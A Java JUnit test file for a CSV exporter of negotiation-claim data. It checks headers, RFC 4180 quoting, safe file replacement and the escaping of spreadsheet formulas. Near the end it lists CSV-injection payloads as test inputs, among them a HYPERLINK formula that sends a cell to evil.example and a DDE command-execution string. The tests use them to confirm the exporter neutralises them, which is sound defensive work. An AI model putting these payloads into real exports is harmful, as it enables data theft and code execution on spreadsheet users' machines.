package org.parley.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.parley.testing.Fixtures;
import tools.jackson.databind.MappingIterator;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;
import tools.jackson.dataformat.csv.CsvSchema;

class CsvExportTest {

  private static final CsvMapper CSV = CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();

  /** The rows of a written file as maps by header, read back with the CSV module. */
  private static List<Map<String, String>> read(Path file) throws IOException {
    try (MappingIterator<Map<String, String>> rows = CSV.readerFor(Map.class)
        .with(CsvSchema.emptySchema().withHeader()).readValues(file.toFile())) {
      return rows.readAll();
    }
  }

  private static Map<String, String> row(List<Map<String, String>> rows, String claim) {
    return rows.stream().filter(r -> r.get("claim").equals(claim)).findFirst().orElseThrow();
  }

  @Test
  void writesEveryTableWithItsHeaderAndReadsBackCellForCell(@TempDir Path dir) throws IOException {
    List<Path> written = CsvExport.write(Fixtures.dataset(), dir);

    assertThat(written).extracting(p -> p.getFileName().toString()).containsExactly("claims.csv", "evidence.csv",
        "actors.csv", "sources.csv", "agreements.csv", "reconciliation.csv");
    assertThat(Files.list(dir)).hasSize(6);
    List<Map<String, String>> claims = read(dir.resolve("claims.csv"));
    assertThat(claims.get(0).keySet()).containsExactlyElementsOf(
        Tables.CLAIM_COLUMNS.stream().map(Column::name).toList());
    assertThat(claims).extracting(r -> r.get("claim_type")).containsExactly("date", "venue", "duration",
        "delegation", "member", "delegation", "member", "delegation", "member", "demand", "response", "outcome",
        "quantity", "statement", "title");

    Map<String, String> demand = row(claims, "report:fixture-article#/demands/0");
    assertThat(demand).containsEntry("actor_id", "actor:russia").containsEntry("actor_name", "Russia")
        .containsEntry("counterpart_id", "actor:ukraine").containsEntry("issue", "territory")
        .containsEntry("value", "withdraw from Donetsk and Luhansk").containsEntry("source_kind", "news")
        .containsEntry("evidence_count", "1").containsEntry("parent", "").containsEntry("verdict", "");
    Map<String, String> response = row(claims, "report:fixture-article#/demands/0/response");
    assertThat(response).containsEntry("parent", "report:fixture-article#/demands/0")
        .containsEntry("actor_id", "actor:rustem-umerov").containsEntry("counterpart_id", "actor:russia")
        .containsEntry("status", "rejected").containsEntry("value", "calling it \"detached from reality\"");
    Map<String, String> quantity = row(claims, "report:fixture-article#/outcomes/0/quantities/0");
    assertThat(quantity).containsEntry("amount", "1000").containsEntry("unit", "prisoners of war")
        .containsEntry("basis", "per_party").containsEntry("qualifier", "exact")
        .containsEntry("parent", "report:fixture-article#/outcomes/0");
    Map<String, String> date = row(claims, "report:fixture-article#/date");
    assertThat(date).containsEntry("date", "2025-05").containsEntry("date_weekday", "Friday")
        .containsEntry("date_role", "held").containsEntry("evidence_text", "on Friday");
    // The fixture's talks lasted 90 minutes: the minutes as a number and as an ISO 8601 duration.
    assertThat(row(claims, "report:fixture-article#/duration")).containsEntry("amount", "90")
        .containsEntry("unit", "minutes").containsEntry("duration", "PT1H30M");
    assertThat(Tables.isoDuration(org.parley.model.DurationEstimate.over(java.time.Duration.ofDays(3 * 365))))
        .isEqualTo("P1095D");
    assertThat(Tables.isoDuration(org.parley.model.DurationEstimate.under(java.time.Duration.ofHours(2))))
        .isEqualTo("PT2H");
    Map<String, String> title = row(claims, "report:fixture-article#/titles/0");
    assertThat(title).containsEntry("verdict", "false")
        .containsEntry("assessment_note", "Donald Trump is President of the United States");
    int start = Integer.parseInt(date.get("evidence_start"));
    assertThat(Fixtures.ARTICLE.codePoints().skip(start).limit(9)
        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString())
        .isEqualTo("on Friday");
    assertThat(date.get("evidence_end")).isEqualTo(String.valueOf(start + 9));

    List<Map<String, String>> evidence = read(dir.resolve("evidence.csv"));
    assertThat(evidence).hasSize(15);
    List<Map<String, String>> actors = read(dir.resolve("actors.csv"));
    assertThat(actors.get(0)).containsEntry("id", "actor:russia").containsEntry("anonymous", "false")
        .containsEntry("aliases", "Russian Federation;Moscow").containsEntry("country", "RUS");
    assertThat(read(dir.resolve("sources.csv")).get(0)).containsEntry("published", "2025-05-16")
        .containsEntry("cites", "actor:reuters");
    List<Map<String, String>> reconciliation = read(dir.resolve("reconciliation.csv"));
    assertThat(reconciliation).allSatisfy(r -> assertThat(r.get("classification")).isEqualTo("single_source"));
    // Tidy: one row per claim behind a value, joined to claims.csv by the claim's id.
    List<String> claimIds = claims.stream().map(r -> r.get("claim")).toList();
    assertThat(reconciliation).extracting(r -> r.get("claim")).allMatch(claimIds::contains);
    assertThat(reconciliation).extracting(r -> r.get("source")).containsOnly("source:fixture-article");
    assertThat(reconciliation.stream().filter(r -> r.get("item").equals("date/held")).findFirst().orElseThrow())
        .containsEntry("claim", "report:fixture-article#/date").containsEntry("verdict", "");
  }

  @Test
  void replacesEachTableWhollyKeepingItsPermissionsAndLeavesNoTemporaryFile(@TempDir Path dir) throws IOException {
    Path claims = dir.resolve("claims.csv");
    Files.writeString(claims, "an older table");
    Files.setPosixFilePermissions(claims, PosixFilePermissions.fromString("rw-r-----"));
    Path usual = Files.createFile(dir.resolve("usual.txt"));

    List<Path> written = CsvExport.write(Fixtures.dataset(), dir);

    assertThat(written).extracting(p -> p.getFileName().toString()).containsExactlyElementsOf(CsvExport.fileNames());
    try (java.util.stream.Stream<Path> files = Files.list(dir)) {
      assertThat(files.map(p -> p.getFileName().toString()).sorted())
          .containsExactlyElementsOf(java.util.stream.Stream.concat(CsvExport.fileNames().stream(), java.util.stream.Stream.of("usual.txt"))
              .sorted().toList());
    }
    assertThat(Files.readString(claims)).startsWith("claim,parent,report,").doesNotContain("an older table");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(claims))).isEqualTo("rw-r-----");
    assertThat(Files.getPosixFilePermissions(dir.resolve("actors.csv"))).isEqualTo(Files.getPosixFilePermissions(usual))
        .contains(PosixFilePermission.OTHERS_READ);
  }

  @Test
  void writesRfc4180WithCrlfAndQuotesOnlyWhereNeeded() throws IOException {
    Table table = new Table("t", "a test row", List.of(Column.text("a", "a"), Column.text("b", "b")),
        List.of(List.of("plain", "with, comma"), List.of("with \"quote\"", "two\nlines"), List.of("", "Türkiye’s")));
    ByteArrayOutputStream out = new ByteArrayOutputStream();

    CsvExport.write(table, out);

    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo(
        "a,b\r\nplain,\"with, comma\"\r\n\"with \"\"quote\"\"\",\"two\nlines\"\r\n,Türkiye’s\r\n");
  }

  @Test
  void writesTheHeaderOfATableWithoutRows() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();

    CsvExport.write(Tables.agreements(Fixtures.dataset()), out);

    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("id,name,type,negotiation\r\n");
  }

  @Test
  void refusesARowThatDoesNotFitTheColumns() {
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> new Table("t", "r", List.of(Column.text("a", "a")),
        List.of(List.of("x", "y")))).isInstanceOf(IllegalArgumentException.class)
        .hasMessage("t: a row of 2 cells for 1 columns");
  }

  /** Cells an attacker could put in a dataset, one per character that starts a spreadsheet formula. */
  private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")",
      "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1");

  private static org.parley.model.Dataset withFormulas() {
    org.parley.model.Dataset.Builder b = org.parley.model.Dataset.builder().from(Fixtures.dataset());
    for (int i = 0; i < FORMULAS.size(); i++) {
      // Names have no control characters: the tab and the carriage return go in headlines, which may.
      String cell = FORMULAS.get(i);
      if (Character.isISOControl(cell.charAt(0))) {
        b.addSources(org.parley.model.Source.builder().id(org.parley.model.SourceId.of("source:formula-" + i))
            .kind(org.parley.model.SourceKind.NEWS).headline(cell).build());
      } else {
        b.addActors(org.parley.model.Actor.builder().id(org.parley.model.ActorId.of("actor:formula-" + i))
            .kind(org.parley.model.ActorKind.PERSON).name(cell).addAliases(cell).build());
      }
    }
    return b.build();
  }

  /** Every cell of every table, by file, row and column. */
  private static List<String> cells(Path dir) throws IOException {
    List<String> cells = new java.util.ArrayList<>();
    for (String file : CsvExport.fileNames()) {
      List<Map<String, String>> rows = read(dir.resolve(file));
      for (int r = 0; r < rows.size(); r++) {
        for (Map.Entry<String, String> cell : rows.get(r).entrySet()) {
          cells.add(file + " " + r + " " + cell.getKey() + " " + cell.getValue());
        }
      }
    }
    return cells;
  }

  @Test
  void writesNoCellThatASpreadsheetWouldRunAsAFormulaAndChangesNoOtherCell(@TempDir Path dir) throws IOException {
    Path safe = dir.resolve("safe");
    Path raw = dir.resolve("raw");
    CsvExport.write(withFormulas(), safe);
    CsvExport.write(withFormulas(), raw, CsvExport.Cells.AS_IS);

    List<Map<String, String>> actors = read(safe.resolve("actors.csv"));
    for (String formula : FORMULAS.stream().filter(f -> !Character.isISOControl(f.charAt(0))).toList()) {
      Map<String, String> actor = actors.stream().filter(a -> a.get("name").equals("'" + formula)).findFirst()
          .orElseThrow(() -> new AssertionError("no actor named '" + formula));
      assertThat(actor.get("aliases")).isEqualTo("'" + formula);
    }
    assertThat(read(safe.resolve("sources.csv"))).extracting(r -> r.get("headline"))
        .contains("'\t=1+1", "'\r=1+1");
    assertThat(read(raw.resolve("actors.csv"))).extracting(r -> r.get("name")).containsAll(
        FORMULAS.stream().filter(f -> !Character.isISOControl(f.charAt(0))).toList());
    // Cell for cell, the safe tables differ from the raw ones only by the leading ' of a formula's cell.
    List<String> safeCells = cells(safe);
    List<String> rawCells = cells(raw);
    assertThat(safeCells).hasSameSizeAs(rawCells);
    int changed = 0;
    for (int i = 0; i < rawCells.size(); i++) {
      String[] place = rawCells.get(i).split(" ", 4);
      String value = place.length < 4 ? "" : place[3];
      String expected = CsvExport.spreadsheetSafe(value);
      assertThat(safeCells.get(i)).isEqualTo(String.join(" ", place[0], place[1], place[2], expected));
      changed += expected.equals(value) ? 0 : 1;
    }
    // Five names and their aliases, two headlines.
    assertThat(changed).isEqualTo(12);
    for (String cell : safeCells) {
      String value = cell.split(" ", 4).length < 4 ? "" : cell.split(" ", 4)[3];
      assertThat(value).as(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
          .doesNotStartWith("\t").doesNotStartWith("\r");
    }
  }

  @Test
  void leavesNumbersDatesAndWireNamesAsTheyAreAndOnlyTextThatStartsAFormula() {
    assertThat(CsvExport.spreadsheetSafe("=1+1")).isEqualTo("'=1+1");
    assertThat(CsvExport.spreadsheetSafe("-40")).isEqualTo("'-40");
    assertThat(CsvExport.spreadsheetSafe("a=1")).isEqualTo("a=1");
    assertThat(CsvExport.spreadsheetSafe(" =1")).isEqualTo(" =1");
    assertThat(CsvExport.spreadsheetSafe("")).isEqualTo("");
    Table numbers = new Table("t", "r", List.of(Column.integer("n", "n"), Column.text("s", "s")),
        List.of(List.of("-5", "-5")));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      CsvExport.write(numbers, out);
    } catch (IOException e) {
      throw new AssertionError(e);
    }
    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("n,s\r\n-5,'-5\r\n");
  }
}
